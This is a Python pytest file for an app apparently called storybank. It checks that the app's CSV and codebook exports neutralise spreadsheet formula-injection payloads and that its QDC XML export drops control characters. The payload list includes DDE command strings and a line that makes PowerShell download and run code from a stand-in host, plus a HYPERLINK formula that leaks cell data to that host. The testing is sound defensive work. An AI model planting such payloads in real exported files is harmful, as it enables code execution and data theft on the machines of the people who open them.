"""Formula payloads in every CSV the app writes come out inert; the .qdc always parses."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from lxml import etree

from storybank.exports.engine import Codebook
from storybank.exports.engine import Excerpt
from storybank.exports.engine import ExportStory
from storybank.exports.engine import Theme
from storybank.exports.engine import excerpts_csv
from storybank.exports.engine import matrix_csv
from storybank.exports.engine import stories_csv
from storybank.tag.export import codebook_csv
from storybank.tag.export import codebook_qdc
from storybank.tag.models import CodebookVersion
from storybank.tag.models import ThemeDefinition

# In the style of OWASP's CSV injection page: each starts with a character a spreadsheet runs.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: str | bytes) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_cell_runs(data: str | bytes, payload: str) -> None:
    found = cells(data)
    assert "'" + payload in found, "the payload is kept, quoted"
    assert not [cell for cell in found if cell.startswith(FORMULA_STARTS)]


def export_story(payload: str) -> ExportStory:
    return ExportStory(
        4,
        text=f"{payload} was scrawled on the bus shelter near the hostel.",
        themes=("k",),
        excerpts=(Excerpt("k", 0, len(payload)),),
        site=payload,
        voice="Person on probation",
        story_type="Personal",
        source="Written",
        approved_on=date(2031, 1, 2),
        word_count=9,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("write", [stories_csv, excerpts_csv, matrix_csv])
def test_research_export_csvs_make_formula_payloads_inert(write, payload):
    codebook = Codebook(2, (Theme("k", payload, payload),))
    data = b"".join(write([export_story(payload)], codebook))
    assert_no_cell_runs(data, payload)


def codebook_with(text: str) -> CodebookVersion:
    theme = ThemeDefinition(
        key="k1",
        name=text,
        definition=text,
        indicators=[text],
        positive_examples=[text],
        negative_examples=[text],
        retired=False,
        position=0,
    )
    return CodebookVersion(version=3, themes=[theme])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_codebook_csv_makes_formula_payloads_inert(payload):
    assert_no_cell_runs(codebook_csv(codebook_with(payload)), payload)


def test_codebook_csv_leaves_ordinary_cells_alone():
    rows = list(csv.DictReader(io.StringIO(codebook_csv(codebook_with("Being heard")))))
    assert rows[0]["name"] == "Being heard" and rows[0]["codebook_version"] == "3"


def test_qdc_with_control_characters_is_valid_xml_without_them():
    text = "Bell\x07 form\x0c feed\x00 nul\x1b esc \ufffe and\ttab\nnewline"
    root = etree.fromstring(codebook_qdc(codebook_with(text)))
    ns = "{urn:QDA-XML:codebook:1.0}"
    code = root.find(f"{ns}Codes/{ns}Code")
    assert code.get("name") == "Bell form feed nul esc  and\ttab\nnewline"
    assert code.find(f"{ns}Description").text.startswith("Bell form feed nul esc  and\ttab")
